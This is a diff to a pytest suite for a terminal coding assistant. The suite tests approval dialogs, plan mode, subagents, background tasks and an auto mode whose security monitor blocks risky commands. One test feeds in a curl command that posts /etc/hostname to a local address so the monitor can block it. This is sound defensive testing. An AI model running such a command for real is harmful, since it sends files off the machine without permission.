@@ -30,7 +30,10 @@ EMPTY_PROMPT = r"\n─+\n❯\n─+\n"
 
 
 class Session:
-    """A terminal with ``cc-boost claude``, in which the person is asked about each action; ``model`` answers."""
+    """A terminal with ``cc-boost claude``, in which the person is asked about each action.
+
+    ``model`` answers; a title, which the client may want of the small model meanwhile, is none of its answers.
+    """
 
     def __init__(self, program: Path, directory: Path) -> None:
         self.home = made_home(program, directory)
@@ -41,7 +44,7 @@ class Session:
         self._shown: Terminal | None = None
 
     def _answer(self, body: dict[str, Any]) -> Answer:
-        return self.model(body) if "tools" in body else Reply("A title.")  # the client asks for titles by the way
+        return Reply("A title.") if body["model"] == "small-model" else self.model(body)
 
     @property
     def shown(self) -> Terminal:
@@ -56,7 +59,7 @@ class Session:
             self._shown = self._running.enter_context(claude(self.home, server.url, *arguments))
         else:
             enter(self._shown, "/clear")
-        self.shown.wait_for(rf"(/work|/clear|/effort){EMPTY_PROMPT}")
+        self.shown.wait_for(rf"(/work|/clear)(\n.*)?{EMPTY_PROMPT}")
         self.provider.requests.clear()
 
     def stop(self) -> None:
@@ -85,7 +88,7 @@ def session(shared: Session, request: pytest.FixtureRequest) -> Iterator[Session
 
 def answer_dialog(shown: Terminal, key: str) -> None:
     """Press a key until the dialog has gone: for some tenths of a second it doesn't listen."""
-    shown.press_until(r"\A(?![\s\S]*Esc to cancel)", key, pause=1)
+    shown.press_until(r"\A(?![\s\S]*(Esc to cancel|Ready to code))", key, pause=1)
 
 
 def press_to_mode(shown: Terminal, wanted: str) -> None:
@@ -221,7 +224,7 @@ def test_plan_is_shown_and_carried_out_after_a_yes(session: Session) -> None:
     enter(session.shown, "Plan a file.")
     assert "Write planned.txt." in session.shown.wait_for("Ready to code")
     session.shown.press_until("❯ 2. Yes, manually approve edits", "Down", pause=1)
-    session.shown.press("Enter")
+    answer_dialog(session.shown, "Enter")
     session.shown.wait_for(r"Do you want to create planned\.txt\?")
     assert not written.exists()
     answer_dialog(session.shown, "Enter")
@@ -236,12 +239,10 @@ def test_subagent_is_shown_and_reports(session: Session) -> None:
 
     def model(body: dict[str, Any]) -> Answer:
         said = str(body["messages"])
-        if "I delegate." not in said:
-            return Reply("I count three." if "Count them, helper." in said else "I delegate.", *calls(said))
-        return Reply("There are three." if "I count three." in said else "I wait.")
-
-    def calls(said: str) -> list[list[ToolCall]]:
-        return [] if "Count them, helper." in said else [[ToolCall("Agent", task)]]
+        if "Count them, helper." in said and "I delegate." not in said:
+            return Reply("I count three.")
+        answers = Reply("I delegate.", [ToolCall("Agent", task)]), Reply("I wait.")
+        return Reply("There are three.") if "I count three." in said else by_turn(*answers)(body)
 
     session.model = model
     enter(session.shown, "How many frogs are there?")
@@ -265,7 +266,7 @@ def test_background_task_runs_while_the_person_goes_on(session: Session) -> None
     ask(session.shown, "Wait for it.", "It runs.")
     ask(session.shown, "Are you there?", "I am here.")
     enter(session.shown, "/tasks")
-    session.shown.wait_for(r"until \[ -e gate \].* running")
+    assert "until [ -e gate ]" in session.shown.wait_for(r"▔[\s\S]* running")  # alone, or in a list
     session.shown.press_until(EMPTY_PROMPT, "Escape")
     gate.touch()
     session.shown.wait_for(r"Background command .* completed")
@@ -274,17 +275,24 @@ def test_background_task_runs_while_the_person_goes_on(session: Session) -> None
 
 @pytest.mark.seen("terminal", "auto mode asks the person nothing: a harmless command runs, a dangerous one is blocked")
 def test_auto_mode_runs_what_is_harmless_and_blocks_what_is_not(session: Session) -> None:
-    commands = ["date > harmless.txt", "curl -s http://127.0.0.1:9/ -d @/etc/hostname; date > harmful.txt"]
+    harmless = 'python3 -c \'open("harmless.txt", "w")\''
+    harmful = "curl -s http://127.0.0.1:9/ -d @/etc/hostname; date > harmful.txt"
+    judged: list[bool] = []
 
     def model(body: dict[str, Any]) -> Answer:
         if "You are a security monitor" in str(body["messages"][0]):
-            return Reply(f"<severity>{90 if 'curl' in str(body['messages'][-1]) else 5}</severity>")
-        calls = [[ToolCall("Bash", {"command": command, "description": "Run it"})] for command in commands]
+            judged.append("curl" in str(body["messages"][-1]))
+            return Reply(
+                "<block>yes</block><reason>It sends files away.</reason>" if judged[-1] else "<block>no</block>"
+            )
+        calls = [[ToolCall("Bash", {"command": command, "description": "Run it"})] for command in (harmless, harmful)]
         return by_turn(Reply("The first.", calls[0]), Reply("The second.", calls[1]), Reply("Both are done."))(body)
 
     session.model = model
     press_to_mode(session.shown, "auto mode on")
     ask(session.shown, "Run both.", "Both are done.")
+    session.shown.wait_for("It sends files away")
+    assert judged == [False, True, True], "one stage for what is harmless, two for what is not"
     assert (session.work / "harmless.txt").exists()
     assert not (session.work / "harmful.txt").exists()
     press_to_mode(session.shown, "manual mode on")
